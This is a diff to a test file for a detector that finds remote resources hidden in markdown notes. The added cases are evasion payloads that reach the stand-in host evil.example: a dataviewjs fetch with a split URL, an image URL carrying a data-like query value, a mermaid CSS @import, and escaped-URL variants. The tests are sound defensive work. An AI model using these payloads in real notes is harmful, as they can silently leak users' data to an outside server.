@@ -52,6 +52,19 @@ it.each([
   `---\ncover: ${evil}\n---\nA note.`,
   `\uFEFF---\ncover: ${evil}\n---\nA note.`,
   `---\n"banner_image":\n  '${evil}'\n---\n`,
+  `\`\`\`cardlink\nurl: ${evil}\ntitle: "x"\nimage: ${evil}\n\`\`\``,
+  `~~~embed \`x\`\nimage: ${evil}\n~~~`,
+  `~~~ embed\nimage: "${evil}"\n~~~`,
+  `> \`\`\`leaflet\n> image: ${evil}\n> \`\`\``,
+  `- \`\`\`\`Cardlink\n  \`\`\`\n  image: ${evil}`,
+  `\`\`\`js\n\`\`\`\n\`\`\`cardlink\nimage: //evil.example/x\n\`\`\``,
+  `~~~js\n\`\`\`cardlink\nimage: ${evil}\n\`\`\`\n~~~`,
+  String.raw`~~~cardlink${'\n'}image: "https:\/\/evil.example"${'\n'}~~~`,
+  String.raw`~~~cardlink${'\n'}image: "\x68ttps:" ${'\n'}~~~`,
+  '```dataviewjs\nfetch("ht" + "tps:" + "//evil.example")\n```',
+  '`= "![x](" + "https:" + "//evil.example/p.png?d=FR76)"`',
+  '`$= dv.el("img", "")`',
+  `\`\`\`mermaid\n%%{init: {"themeCSS": "@import '${evil}';"}}%%\nflowchart LR\nA-->B\n\`\`\``,
 ])('findRemoteResources detects a remote resource: %s', (text) => {
   expect(findRemoteResources(`A note.\n\n${text}`.replace(/^A note\.\n\n(?=\uFEFF?---)/, ''))).not.toEqual(
     [],
@@ -75,6 +88,26 @@ it.each([
   'if a < img and url (x)',
   '<details><summary>more</summary></details>',
   '<p style="color: red">',
+  ...[
+    'js',
+    'ts',
+    'python',
+    'sh',
+    'json',
+    'yaml',
+    'html',
+    'http',
+    'sql',
+    'C++',
+    '{.rust}',
+    'js title="a.js"',
+    '',
+  ].map((language) => `\`\`\`${language}\nfetch("${evil}") // or ${evil}\n\`\`\``),
+  `\`\`\`js\nfetch("${evil}")\n\`\`\`\n\nSee ${evil}.\n\n\`\`\`cardlink\ntitle: "x"\n\`\`\`\n\nOr ${evil}.`,
+  `\`\`\`ad-note\nSee [this](${evil}).\n\`\`\``,
+  `\`\`\`mermaid\nflowchart LR\nA-->B\nclick A "${evil}"\n\`\`\``,
+  '```dataview\nTABLE file.mtime FROM "projects" // all\n```',
+  'Write `= 5` or `=SUM(A1:A3)` or `a = "b"`.',
 ])('findRemoteResources ignores text without remote resources: %s', (text) => {
   expect(findRemoteResources(text)).toEqual([]);
 });
@@ -106,8 +139,15 @@ it.each([
   '](<',
   '][',
   '\\[',
+  '\n```a\n',
+  '\n```\n',
+  '`= "',
+  '`$=',
+  '\n~~~a //',
+  '\n> > > ',
+  'themeCSS ',
 ])('findRemoteResources scans repeated %s in linear time', async (piece) => {
-  const text = (times: number): string => `<p ![ ${piece.repeat(times)}`;
+  const text = (times: number): string => `<p ![ ${piece.repeat(times)}\n~~~mermaid\n${piece.repeat(times)}`;
   const ratio = await costRatio(
     () => findRemoteResources(text(40_000)),
     () => findRemoteResources(text(10_000)),
